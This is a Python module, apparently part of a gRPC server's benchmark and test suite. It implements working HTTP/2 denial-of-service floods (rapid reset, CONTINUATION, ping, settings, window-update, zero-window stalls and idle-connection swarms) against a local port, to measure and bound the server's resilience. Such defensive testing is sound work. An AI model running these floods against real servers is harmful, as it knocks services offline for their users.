"""Attacks that one HTTP/2 client without any key can make. bench/connection_floods.py measures them, tests/floods bounds them."""

from __future__ import annotations

import asyncio
import itertools
from contextlib import suppress
from dataclasses import dataclass
from types import MappingProxyType
from typing import TYPE_CHECKING, Final

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

if TYPE_CHECKING:
    import ssl
    from collections.abc import Callable, Iterator, Mapping

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_OPENED: Final = _PREFACE + SettingsFrame(0).serialize()
# Frames that are written at once.
_FRAMES: Final = 200
_WATCH: Final = "/grpc.health.v1.Health/Watch"
_CANCEL: Final = 8


def _headers_of(path: str, *metadata: tuple[str, str]) -> bytes:
    """The headers of a call, as literals that add nothing to the table of the decoder: each stream can have the same bytes."""
    headers = (
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers"), *metadata,
    )  # fmt: skip
    return Encoder().encode([(name, value, True) for name, value in headers])


_HEADERS: Final = _headers_of("/strongroom.v1.CredentialService/AccessCredential")
_WATCHES: Final = _headers_of(_WATCH)


def _streams() -> Iterator[int]:
    return iter(range(1, 2**31, 2))


def _open(stream: int, headers: bytes = _HEADERS, *flags: str) -> bytes:
    return HeadersFrame(stream, headers, flags=["END_HEADERS", *flags]).serialize()


def _rapid_reset() -> Iterator[bytes]:
    yield _OPENED
    for stream in _streams():
        yield _open(stream) + RstStreamFrame(stream, _CANCEL).serialize()


def _unfinished_streams() -> Iterator[bytes]:
    yield _OPENED
    for stream in itertools.islice(_streams(), 5_000):
        yield _open(stream)


def _empty_data() -> Iterator[bytes]:
    yield _OPENED + _open(1)
    yield from itertools.repeat(DataFrame(1).serialize())


def _continuation() -> Iterator[bytes]:
    yield _OPENED + HeadersFrame(1, _HEADERS).serialize()
    # A literal that is not indexed: one byte of name, one of value.
    yield from itertools.repeat(ContinuationFrame(1, b"\x00\x01a\x01b").serialize())


def _settings() -> Iterator[bytes]:
    yield _OPENED
    yield from itertools.repeat(SettingsFrame(0, {SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize())


def _ping() -> Iterator[bytes]:
    yield _OPENED
    yield from itertools.repeat(PingFrame(0, b"floodped").serialize())


def _window_update() -> Iterator[bytes]:
    yield _OPENED + _open(1)
    yield from itertools.repeat(WindowUpdateFrame(1, window_increment=1).serialize())


def _zero_window() -> Iterator[bytes]:
    """Each stream has an answer that it never lets the server send."""
    yield _PREFACE + SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
    for stream in itertools.islice(_streams(), 5_000):
        yield _open(stream, _WATCHES) + DataFrame(stream, bytes(5), flags=["END_STREAM"]).serialize()


def unread_calls(path: str, *metadata: tuple[str, str], request: bytes = b"", count: int = 1) -> bytes:
    """A connection with calls of a request, whose responses the server may never send."""
    headers, message = _headers_of(path, *metadata), b"\0" + len(request).to_bytes(4) + request
    return (
        _PREFACE
        + SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
        + b"".join(
            _open(stream, headers) + DataFrame(stream, message, flags=["END_STREAM"]).serialize()
            for stream in itertools.islice(_streams(), count)
        )
    )


def _unfinished_header() -> Iterator[bytes]:
    yield _OPENED + HeadersFrame(1, _HEADERS[:5]).serialize()


def _no_preface() -> Iterator[bytes]:
    yield b""


def _idle() -> Iterator[bytes]:
    yield _OPENED


@dataclass(frozen=True, slots=True)
class Attack:
    """What each of so many connections sends, and whether it takes what the server sends."""

    frames: Callable[[], Iterator[bytes]]
    connections: int = 1
    reads: bool = True

    async def run(
        self, port: int, limit: int | None = None, tls: ssl.SSLContext | None = None, source: str = "127.0.0.1"
    ) -> None:
        """Attack until cancelled, over new connections when the server closes one. With a limit, each sends so many frames."""
        await asyncio.gather(*(self._repeat(port, limit, tls, source) for _ in range(self.connections)))

    async def _repeat(self, port: int, limit: int | None, tls: ssl.SSLContext | None, source: str) -> None:
        while True:
            with suppress(OSError):
                await self._attack(port, limit, tls, source)
                if limit is not None:
                    return
            await asyncio.sleep(0.05)

    async def _attack(self, port: int, limit: int | None, tls: ssl.SSLContext | None, source: str) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=tls, local_addr=(source, 0))
        receiving = asyncio.create_task(_receive(reader)) if self.reads else None
        try:
            frames = itertools.islice(self.frames(), limit)
            while sent := list(itertools.islice(frames, _FRAMES)):
                writer.write(b"".join(sent))
                await writer.drain()
                # A write to a buffer that has room does not let others run.
                await asyncio.sleep(0)
            # Attacks with fewer frames keep the connection.
            if receiving is not None and limit is None:
                await receiving
            elif limit is None:
                await asyncio.Event().wait()
        finally:
            if receiving is not None:
                receiving.cancel()
                await asyncio.gather(receiving, return_exceptions=True)
            writer.transport.abort()


async def _receive(reader: asyncio.StreamReader) -> None:
    while await reader.read(65_536):
        pass


ATTACKS: Final[Mapping[str, Attack]] = MappingProxyType(
    {
        "rapid_reset": Attack(_rapid_reset),
        "unfinished_streams": Attack(_unfinished_streams),
        "empty_data": Attack(_empty_data),
        "continuation": Attack(_continuation),
        "settings": Attack(_settings),
        "settings_unread": Attack(_settings, reads=False),
        "ping": Attack(_ping),
        "ping_unread": Attack(_ping, reads=False),
        "window_update": Attack(_window_update),
        "zero_window": Attack(_zero_window),
        "unfinished_header": Attack(_unfinished_header, connections=50),
        "no_preface": Attack(_no_preface, connections=320),
        "idle": Attack(_idle, connections=320),
    }
)
